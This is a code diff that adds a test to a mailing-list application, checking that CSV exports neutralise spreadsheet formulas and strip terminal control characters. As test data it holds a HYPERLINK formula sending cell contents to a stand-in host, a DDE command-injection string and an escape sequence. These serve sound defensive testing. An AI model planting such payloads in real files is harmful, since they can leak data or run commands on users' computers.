@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import re
 import tracemalloc
@@ -383,6 +384,52 @@ def test_export_round_trips_and_neutralises_formulas(database: Database, tmp_pat
     with database.session() as session:
         states = list(SubscriptionState)
         assert csvio.export_csv(session, "daily", everyone, states=states) == 3
+
+
+def test_every_exported_cell_is_neutralised_and_reads_back(
+    database: Database, tmp_path: Path
+) -> None:
+    """Addresses and topics that start like formulas get a quote too; control characters
+    are dropped; the export imports back as it was (issue 17 B1)."""
+    seed(database)
+    formula = '=HYPERLINK("http://evil.example/?x="&A2,"Open")'
+    people = _write(
+        tmp_path,
+        "email\n=1+3@example.com\n+cmd|'/ccalc'!a0@example.com\n-2@example.com\n",
+        "people.csv",
+    )
+    with database.session() as session:
+        csvio.import_csv(session, people, list_slug="daily", confirmed=True, consent="x")
+    with database.session() as session:
+        subscriber = services.get_subscriber(session, "=1+3@example.com")
+        subscriber.name = "Eve\x1b]0;owned\x07"  # stored before names were checked
+        subscriber.subscriptions[0].topics = [formula, "@SUM(1)"]
+    buffer = io.StringIO()
+    with database.session() as session:
+        assert csvio.export_csv(session, "daily", buffer) == 3
+    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
+    for row in rows[1:]:
+        for cell in row:
+            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), row
+            assert "\x1b" not in cell
+            assert "\x07" not in cell
+    assert sorted(row[0] for row in rows[1:]) == [
+        "'+cmd|'/ccalc'!a0@example.com",
+        "'-2@example.com",
+        "'=1+3@example.com",
+    ]
+    assert rows[3][1:3] == ["Eve]0;owned", "'" + formula + ";@SUM(1)"]
+    # What was exported reads back as the same addresses.
+    path = _write(tmp_path, buffer.getvalue(), "export.csv")
+    seed(database, "other")
+    with database.session() as session:
+        report = csvio.import_csv(session, path, list_slug="other", confirmed=True, consent="x")
+    # The two plain rows import; the third's topics are not the other list's, and its
+    # address reads back without the guarding quote.
+    assert report.imported == 2
+    assert [p.email for p in report.problems] == ["=1+3@example.com"]
+    with database.session() as session:
+        assert services.get_subscriber(session, "-2@example.com").subscriptions
 
 
 def test_import_on_sqlite_and_postgresql(any_database: Database, tmp_path: Path) -> None:
